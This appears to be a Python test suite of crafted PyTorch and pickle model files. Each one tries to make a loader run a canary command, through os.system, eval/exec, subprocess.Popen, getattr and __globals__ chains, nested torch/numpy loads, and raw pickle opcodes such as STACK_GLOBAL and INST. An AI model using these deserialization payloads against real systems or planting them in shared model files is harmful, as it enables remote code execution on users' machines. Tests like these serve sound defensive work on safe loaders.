"""Files that ask for something to be imported, called or run."""

from attacks.common import attack, inside, python, shell
from published import Call, Make, Name, Persistent, Raw, dumps, old_file, opcodes


@attack
def os_system_alone(folder, canary):
    (folder / "model.pt").write_bytes(b"cos\nsystem\n(S'" + shell(canary).encode() + b"'\ntR.")


@attack
def os_system_in_place_of_the_magic_number(folder, canary):
    (folder / "model.pt").write_bytes(dumps(Call(Name("os system"), (shell(canary),))))


@attack
def posix_system_as_an_attribute(folder, canary):
    inside(folder, Call(Name("posix system"), (shell(canary),)))


@attack
def builtins_eval(folder, canary):
    inside(folder, Call(Name("builtins eval"), (python(canary),)))


@attack
def builtins_exec(folder, canary):
    inside(folder, Call(Name("builtins exec"), (python(canary),)))


@attack
def eval_by_its_name_in_python_2(folder, canary):
    inside(folder, Call(Name("__builtin__ eval"), (python(canary),)))


@attack
def chain_of_getattr(folder, canary):
    module = Call(Name("builtins __import__"), ("os",))
    inside(folder, Call(Call(Name("builtins getattr"), (module, "system")), (shell(canary),)))


@attack
def import_module(folder, canary):
    (folder / "canary_module.py").write_text(python(canary))
    inside(folder, Call(Name("importlib import_module"), ("canary_module",)))


@attack
def subprocess_popen(folder, canary):
    inside(folder, Call(Name("subprocess Popen"), (["touch", str(canary)],)))


@attack
def popen_as_an_object(folder, canary):
    inside(folder, Raw(opcodes(Name("subprocess Popen")) + opcodes((["touch", str(canary)],)) + b"\x81"))


@attack
def torch_hub(folder, canary):
    (folder / "hubconf.py").write_text(f"def run():\n    {python(canary)}\n")
    inside(folder, Call(Name("torch.hub load"), (str(folder), "run")))


@attack
def torch_load_of_a_second_file(folder, canary):
    (folder / "second.pt").write_bytes(dumps(Call(Name("os system"), (shell(canary),))))
    inside(folder, Call(Name("torch.serialization load"), (str(folder / "second.pt"),)))


@attack
def numpy_runs_a_string(folder, canary):
    inside(folder, Call(Name("numpy.testing._private.utils runstring"), (python(canary), {})))


@attack
def numpy_reconstructs(folder, canary):
    array = Call(Name("numpy.core.multiarray _reconstruct"), (Name("numpy ndarray"), (0,), "b"))
    state = (1, (1,), Call(Name("builtins eval"), (python(canary),)), False, [None])
    inside(folder, Raw(opcodes(array) + opcodes(state) + b"b"))


@attack
def numpy_loads_a_pickle(folder, canary):
    (folder / "second.npy").write_bytes(dumps(Call(Name("os system"), (shell(canary),))))
    inside(folder, Call(Name("numpy load"), (str(folder / "second.npy"), None, True)))


@attack
def pickle_in_a_pickle(folder, canary):
    text = dumps(Call(Name("os system"), (shell(canary),))).decode("latin-1")
    data = Call(Name("_codecs encode"), (text, "latin1"))
    inside(folder, Call(Name("pickle loads"), (data,)))


@attack
def pickle_in_a_tensors_class(folder, canary):
    call = Call(Name("torch._utils _rebuild_tensor_v2"), (Call(Name("builtins eval"), (python(canary),)), 0, (), ()))
    inside(folder, call)


@attack
def class_of_a_module(folder, canary):
    command = Persistent(("module", Name("os system"), "os.py", ""))
    inside(folder, Call(command, (shell(canary),)))


@attack
def source_of_a_module(folder, canary):
    (folder / "model.pt").write_bytes(
        old_file(Make(Persistent(("module", Name("evil Module"), "evil.py", python(canary))), {}))
    )


@attack
def type_of_a_storage(folder, canary):
    inside(folder, Persistent(("storage", Name("builtins exec"), python(canary), "cpu", 1, None)))


@attack
def state_of_a_function(folder, canary):
    inside(folder, Raw(opcodes(Name("torch._utils _rebuild_parameter")) + opcodes({"__code__": 1}) + b"b"))


@attack
def dotted_attribute_of_an_allowed_class(folder, canary):
    inside(folder, Call(Name("collections OrderedDict.__init__.__globals__"), (shell(canary),)))


@attack
def module_called_as_a_function(folder, canary):
    inside(folder, Call(Name("torch.nn.modules.linear Linear"), (1 << 30, 1 << 30)))


# --- the opcodes that other protocols have for it ---


@attack
def stack_global(folder, canary):
    name = b"\x8c\x02os\x8c\x06system\x93"
    (folder / "model.pt").write_bytes(b"\x80\x04" + name + opcodes((shell(canary),)) + b"R.")


@attack
def stack_global_inside_a_model(folder, canary):
    inside(folder, Raw(opcodes("os") + opcodes("system") + b"\x93" + opcodes((shell(canary),)) + b"R"))


@attack
def inst_opcode(folder, canary):
    inside(folder, Raw(b"(" + opcodes(shell(canary)) + b"ios\nsystem\n"))


@attack
def obj_opcode(folder, canary):
    inside(folder, Raw(b"(" + opcodes(Name("os system")) + opcodes(shell(canary)) + b"o"))


@attack
def newobj_ex_opcode(folder, canary):
    body = opcodes(Name("subprocess Popen")) + opcodes((["touch", str(canary)],)) + opcodes({}) + b"\x92"
    inside(folder, Raw(body))


@attack
def extension_registry(folder, canary):
    inside(folder, Raw(b"\x82\x01"))


@attack
def persistent_id_in_text(folder, canary):
    inside(folder, Raw(b"Pmodule\n"))
